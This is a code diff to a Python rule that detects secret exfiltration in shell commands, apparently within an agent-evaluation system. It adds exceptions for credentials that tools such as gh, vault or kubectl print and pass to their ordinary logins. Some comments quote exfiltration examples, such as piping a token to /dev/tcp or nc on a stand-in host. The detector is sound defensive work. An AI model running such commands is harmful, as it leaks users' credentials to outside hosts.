@@ -23,7 +23,13 @@ from __future__ import annotations
 
 import re
 
+from evaluation.verdicts.tier1.exfil_allowed import LOGINS as _LOGINS
+from evaluation.verdicts.tier1.exfil_allowed import allowed as _allowed
+from evaluation.verdicts.tier1.exfil_allowed import hosts as _hosts
+from evaluation.verdicts.tier1.exfil_allowed import login_allowed as _login_allowed
+from evaluation.verdicts.tier1.exfil_allowed import value as _value
 from evaluation.verdicts.tier1.exfil_r12 import mounted_secret_sent
+from evaluation.verdicts.tier1.exfil_r13 import host_vendor, secret_store, vendor_of_program
 from evaluation.verdicts.tier1.programs import WRAPPERS
 from evaluation.verdicts.tier1.readonly import runner_target
 from evaluation.verdicts.tier1.rules import Rule
@@ -45,7 +51,6 @@ __all__ = ["check_secret_exfiltration", "code_source", "is_sink", "reads_secret"
            "writes_secret"]
 
 
-_URL_HOST = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*://(?:[^@/]*@)?(\[[^\]]+\]|[^/:?#]+)")
 
 
 _REMOTE = re.compile(r"^(?:[^/@:]+@)?[A-Za-z0-9.-]+:")
@@ -55,10 +60,6 @@ def _hit(rule: Rule, reason: str, evidence: str) -> RuleMatch:
     return RuleMatch(rule_id=rule.id, kind=rule.kind, verdict=rule.verdict, block=rule.blocking,
                      severity=rule.severity, reason=f"{rule.id}: {reason}", evidence=evidence)
 
-
-def _hosts(view: View) -> list[str]:
-    hosts = [m.group(1).lower() for w in view.command.argv[1:] if (m := _URL_HOST.match(_value(w)))]
-    return hosts
 
 
 def _socket_fds(scene: Scene) -> frozenset[str]:
@@ -98,8 +99,6 @@ def is_sink(rule: Rule, view: View, sockets: frozenset[str] = frozenset(),
     return any(_ADDRESS.match(_value(a)) for a in command.argv[1:])
 
 
-_LOGINS = frozenset({"docker", "podman", "nerdctl", "buildah", "skopeo", "helm", "oras", "crane", "regctl", "npm",
-                     "pnpm", "yarn", "gh", "glab", "heroku", "flyctl", "vercel", "netlify", "firebase", "wrangler"})
 _KNOWN: dict[str, frozenset[str]] = {}
 _KEY_TOOLS = frozenset({"ssh-add", "ssh-keygen", "ssh-agent", "gpg", "gpg2", "age", "age-keygen", "sops", "pass",
                         "keychain", "chmod", "chown", "stat", "ls", "diff", "cmp", "shred", "srm", "dotenv",
@@ -128,9 +127,6 @@ _LOCAL = frozenset({"echo", "printf", "cat", "grep", "egrep", "fgrep", "sed", "a
                     "md5sum", "basename", "dirname", "realpath", "readlink"})
 _ADDRESS = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.-]*://[^/\s]+|[A-Za-z0-9.-]+\.[A-Za-z]{2,}:[0-9]{2,5}(?:/|$)"
                       r"|[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+\.[A-Za-z0-9.-]+$)")
-def _value(word: str) -> str:
-    return word.split("=", 1)[1] if word.startswith("-") and "=" in word else word
-
 
 def _tree_carried(scene: Scene, view: View, known: frozenset[str]) -> str | None:
     """Round 10: a program Tier 1 does not model (``npx surge public host``, ``netlify deploy --dir site``) may send
@@ -148,59 +144,6 @@ def _tree_carried(scene: Scene, view: View, known: frozenset[str]) -> str | None
             if path not in ("/", scene.home) and is_secret(path, (), scene, tree=True):
                 return f"{word} (it holds a file written from a secret)"
     return None
-
-
-def _allowed(rule: Rule, view: View, variable: str) -> bool:
-    """Every host the sink names is an API host of the rule's ``allowed_hosts`` and, when the variable names
-    a vendor (``OPENAI_API_KEY``), that vendor's own: round 10 — an OpenAI key posted to a Slack webhook is
-    sent to a third party however well known the webhook's host is."""
-    hosts = _hosts(view)
-    allowed = rule.params["allowed_hosts"]
-    if not hosts or not all(any(h == a or h.endswith("." + a) for a in allowed) for h in hosts):
-        return False
-    vendors = _vendors(variable, allowed)
-    return not vendors or all(_vendor_of(h) in vendors for h in hosts)
-
-
-_VENDOR_ALIASES = {"gh": "github", "hf": "huggingface", "hugging": "huggingface", "gemini": "googleapis",
-                   "google": "googleapis", "claude": "anthropic", "tg": "telegram", "gl": "gitlab"}
-
-
-def _vendor_of(host: str) -> str:
-    """``api.openai.com`` → ``openai``; ``hooks.slack.com`` → ``slack``; ``localhost`` stays itself."""
-    labels = host.split(".")
-    vendor = labels[-2] if len(labels) >= 2 and not host.replace(".", "").isdigit() else host
-    return _HOST_VENDORS.get(vendor, vendor)
-
-
-_HOST_VENDORS = {"ghcr": "github", "githubusercontent": "github", "pkg": "github", "gcr": "googleapis",
-                 "azurecr": "azure", "amazonaws": "aws"}
-
-
-def _login_allowed(rule: Rule, view: View, variable: str) -> bool:
-    """Round 10: a registry login (``docker login HOST``) given a secret VARIABLE: a registry's own credential
-    is ordinary use, unless the variable names another vendor than the registry's (``OPENAI_API_KEY`` to
-    ``e.io``). The registry is the first operand after ``login``, Docker Hub when there is none."""
-    command = view.command
-    if command.program not in _LOGINS or "login" not in command.argv[1:4]:
-        return False
-    after = command.argv[command.argv.index("login") + 1:]
-    values = {"-u", "--username", "-p", "--password", "--registry", "--scope"}
-    registry = next((a for i, a in enumerate(after) if not a.startswith("-")
-                     and (i == 0 or after[i - 1] not in values)), "docker.io")
-    host = registry.split("://", 1)[-1].split("/", 1)[0].lower()
-    named = {_VENDOR_ALIASES.get(w, w) for w in variable.lower().split("_") if w}
-    known = {_vendor_of(a) for a in rule.params["allowed_hosts"]} | {"docker", "aws", "azure", "quay", "gitlab"}
-    vendors = named & known
-    return not vendors or _vendor_of(host) in vendors
-
-
-def _vendors(variable: str, allowed: list[str]) -> frozenset[str]:
-    """The vendors of ``allowed`` that a variable's name names (``GH_TOKEN`` → github), else none."""
-    known = {_vendor_of(a) for a in allowed}
-    words = [w for w in variable.lower().replace("-", "_").split("_") if w]
-    named = {_VENDOR_ALIASES.get(w, w) for w in words}
-    return frozenset(n for n in named if n in known)
 
 
 def _pushes(view: View) -> bool:
@@ -223,7 +166,7 @@ def check_secret_exfiltration(rule: Rule, scene: Scene) -> list[RuleMatch]:
         for view, directory in served
         if any(is_secret(p, secrets, scene, tree=True) or p == scene.home for p in scene.canon(view, directory) or ())]
     sources = {id(v): s for v in scene.views if (s := reads_secret(rule, scene, v, secrets)) is not None}
-    substituted = [s for v in scene.views if v.command.context == "substitution" and (s := sources.get(id(v)))]
+    substituted = [(v, s) for v in scene.views if v.command.context == "substitution" and (s := sources.get(id(v)))]
     for view in scene.views:
         mounted = mounted_secret_sent(scene, view, secrets) if view.command.program in _CONTAINER_RUNTIMES else None
         if mounted:  # round 12 (exfil_r12)
@@ -244,9 +187,12 @@ def check_secret_exfiltration(rule: Rule, scene: Scene) -> list[RuleMatch]:
                 found.append(_hit(rule, f"{view.command.program} sends the working tree, and {carried} in it "
                                         "was written from a secret", view.text))
             continue
-        own = sources.get(id(view)) or _tree_carried(scene, view, known) or (
+        own = sources.get(id(view))
+        if own and _produced_here(view, own) and not _to_socket(view, sockets):
+            own = None  # round 13: `vault kv get secret/x` prints a credential; it does not send it
+        own = own or _tree_carried(scene, view, known) or (
             sends_tree(scene, view, secrets, carrying) if _pushes(view) else None)
-        only_variables = own is not None and own.startswith("$") and not own.startswith("$(")
+        only_variables = own is not None and _VARIABLE.match(own) is not None
         if own and not (only_variables and (_allowed(rule, view, own[1:]) or _login_allowed(rule, view, own[1:]))
                         and own[1:] not in scene.tainted_vars):
             found.append(_hit(rule, f"{view.command.program or 'a redirection'} sends {own}, a secret, off the "
@@ -254,7 +200,8 @@ def check_secret_exfiltration(rule: Rule, scene: Scene) -> list[RuleMatch]:
             continue
         command = view.command
         upstream = [sources[id(v)] for v in scene.views if id(v) in sources and v is not view
-                    and v.command.pipeline_id == command.pipeline_id and v.command.pipeline_pos < command.pipeline_pos]
+                    and v.command.pipeline_id == command.pipeline_id and v.command.pipeline_pos < command.pipeline_pos
+                    and not _ordinary_use(rule, v, view, sockets)]
         upstream += batch_files(scene, view, secrets)
         if not upstream and command.pipeline_pos > 0 and not any(
                 v.command.pipeline_id == command.pipeline_id and v.command.pipeline_pos < command.pipeline_pos
@@ -262,16 +209,17 @@ def check_secret_exfiltration(rule: Rule, scene: Scene) -> list[RuleMatch]:
             # `… | while read v; do echo "${!v}"; done | nc host`: fed by a compound command, whose
             # commands the parser keeps in pipelines of their own; any source before the sink may feed it
             position = next(i for i, v in enumerate(scene.views) if v is view)
-            upstream = [sources[id(v)] for v in scene.views[:position] if id(v) in sources]
-        if upstream and all(_login_allowed(rule, view, u[1:]) for u in upstream if u.startswith("$")
-                            and not u.startswith("$(")) and all(u.startswith("$") and not u.startswith("$(")
-                                                                for u in upstream):
+            upstream = [sources[id(v)] for v in scene.views[:position] if id(v) in sources
+                        and not _ordinary_use(rule, v, view, sockets)]
+        if upstream and all(_login_allowed(rule, view, u[1:]) for u in upstream if _VARIABLE.match(u)) and all(
+                _VARIABLE.match(u) for u in upstream):
             continue  # `echo "$GITHUB_TOKEN" | docker login ghcr.io --password-stdin`: a registry's own credential
         if upstream:
             found.append(_hit(rule, f"{upstream[0]} is piped into {command.program}, which sends it off the "
                                     "machine", view.text))
-        elif substituted and (command.dynamic or any("…" in a for a in command.argv)):
-            found.append(_hit(rule, f"{command.program} sends words built from {substituted[0]}, a secret",
+        elif (built := [s for v, s in substituted if not _ordinary_use(rule, v, view, sockets)]) and (
+                command.dynamic or any("…" in a for a in command.argv)):
+            found.append(_hit(rule, f"{command.program} sends words built from {built[0]}, a secret",
                               view.text))
     return found
 
@@ -293,3 +241,42 @@ def _code_flow(rule: Rule, scene: Scene, view: View, secrets: tuple[str, ...]) -
         return None
     source = code_source(rule, scene, view, secrets)
     return f"{view.command.program} code reads {source} and makes a network call" if source else None
+
+
+_VARIABLE = re.compile(r"^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$")  # `$OPENAI_API_KEY`, not `$HOME/.hermes/.env` (round 13)
+
+
+def _produced_here(view: View, source: str) -> bool:
+    """Round 13: ``source`` is what ``view``'s own program prints as a credential (:mod:`exfil_r13`)."""
+    return secret_store(view.command.program, view.command.argv) == source
+
+
+def _to_socket(view: View, sockets: frozenset[str]) -> bool:
+    """``gh auth token > /dev/tcp/host/80``: the output itself goes to a socket."""
+    return any(r.target.startswith(("/dev/tcp/", "/dev/udp/")) or (r.target in sockets and r.target != "1")
+               for r in view.command.redirects if r.op.lstrip("0123456789").startswith(">"))
+
+
+def _strict_sink(rule: Rule, view: View, sockets: frozenset[str]) -> bool:
+    """A sink by what it names (a network program, a socket, an address), not because Tier 1 does not model it."""
+    return is_sink(rule, view, sockets, None)
+
+
+def _ordinary_use(rule: Rule, source: View, sink: View, sockets: frozenset[str]) -> bool:
+    """Round 13: a credential PRINTED by ``source`` (:mod:`exfil_r13`) put to its ordinary use by ``sink``: a registry
+    or forge login (``… | docker login --password-stdin``), the same program family (``kubectl get secret … |
+    kubectl apply -f -``), only the producer's own vendor's hosts (``$(gh auth token)`` to ``api.github.com``), or a
+    program that is a sink only because Tier 1 does not model it. A file or variable read stays a source."""
+    command = source.command
+    if secret_store(command.program, command.argv) is None:
+        return False
+    program = sink.command.program
+    if program in _LOGINS and "login" in sink.command.argv[1:4]:
+        return True
+    vendor = vendor_of_program(command.program)
+    if vendor_of_program(program) == vendor:
+        return True
+    hosts = _hosts(sink)
+    if hosts and all(host_vendor(h) == vendor for h in hosts):
+        return True
+    return not _strict_sink(rule, sink, sockets)
